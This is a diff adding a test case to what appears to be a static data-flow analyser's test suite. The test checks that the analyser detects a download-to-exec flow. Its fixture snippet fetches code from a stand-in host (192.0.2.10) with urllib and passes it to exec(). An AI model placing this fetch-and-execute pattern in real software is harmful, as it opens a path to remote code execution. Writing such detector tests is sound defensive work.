@@ -114,6 +114,20 @@ def test_parameter_secret_reaches_send_through_containers_and_fstrings() -> None
     ]
 
 
+def test_recursive_helper_that_runs_its_parameter() -> None:
+    # the helper's call to itself reads the summary it is adding to (was: set changed size)
+    flows = flows_of(
+        """
+        import urllib.request
+        def run(code, depth=0):
+            if depth < 2:
+                return run(urllib.request.urlopen("http://192.0.2.10/" + code).read(), depth + 1)
+            exec(code)
+        """
+    )
+    assert (Source.DOWNLOAD, Sink.EXEC) in {(f.source, f.sink) for f in flows}
+
+
 def test_flow_follows_helpers_and_the_address_the_caller_passes() -> None:
     flows = flows_of(
         """
